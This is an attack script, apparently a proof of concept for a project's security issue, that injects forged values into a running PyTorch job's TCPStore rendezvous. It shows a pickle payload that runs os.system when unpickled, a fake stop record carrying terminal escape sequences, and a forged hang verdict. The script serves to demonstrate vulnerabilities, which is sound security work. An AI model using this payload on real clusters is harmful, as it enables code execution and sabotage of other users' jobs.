"""A neighbour on the same host (issue #29): writes forged values into a running job's rendezvous store through
torch's own TCPStore client, as uid 65534 (``nobody``) when started as root. Prints one line per write.

    python store_attack.py --port P --run-id ID --marker FILE

- ``state``: torch's rendezvous state replaced by a pickle that creates ``--marker`` when unpickled;
- ``stop``: a final stop claiming exit 0, its reason full of escape sequences, under the round's stop key;
- ``open``: a hang inquiry opened with no rank past any deadline;
- ``verdict``: a verdict naming rank 1, under that inquiry's verdict key.
"""

from __future__ import annotations

import argparse
import base64
import datetime
import json
import os
import pickle
import sys

from torch.distributed import TCPStore


class _Payload:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):  # what pickle.loads runs: the code execution of finding 1
        return (os.system, (f"touch {self.marker}",))


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--run-id", required=True)
    ap.add_argument("--marker", required=True)
    args = ap.parse_args()
    if os.geteuid() == 0:  # become another user; torch and everything above are loaded already
        os.setgroups([])
        os.setgid(65534)
        os.setuid(65534)
    print(f"uid {os.geteuid()}", flush=True)
    store = TCPStore("127.0.0.1", args.port, is_master=False, timeout=datetime.timedelta(seconds=10))
    layouts = [k for k in store.list_keys() if k.endswith("/mbr/layout")]
    raw = store.get(sorted(layouts)[-1])  # the newest round's layout: sealed, not secret
    token = json.loads(raw[raw.index(b"{"):])["token"]
    prefix = f"mbr/job/{args.run_id}/round/{token}"
    forged = {
        f"torch.rendezvous.{args.run_id}": base64.b64encode(pickle.dumps(_Payload(args.marker))).decode(),
        f"{prefix}/stop": json.dumps({"reason": "done \x1b]0;pwned\x07\x1b[2J", "final": True, "exit_code": 0}),
        f"{prefix}/inquiry/0/open": json.dumps({"group_rank": 0, "rank": 1, "kind": "step"}),
        f"{prefix}/inquiry/0/verdict": json.dumps({"culprits": [1], "basis": "stacks",
                                                  "reason": "forged", "waiting": "0"}),
    }
    for key, value in forged.items():
        store.set(key, value)
        print(f"wrote {key}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
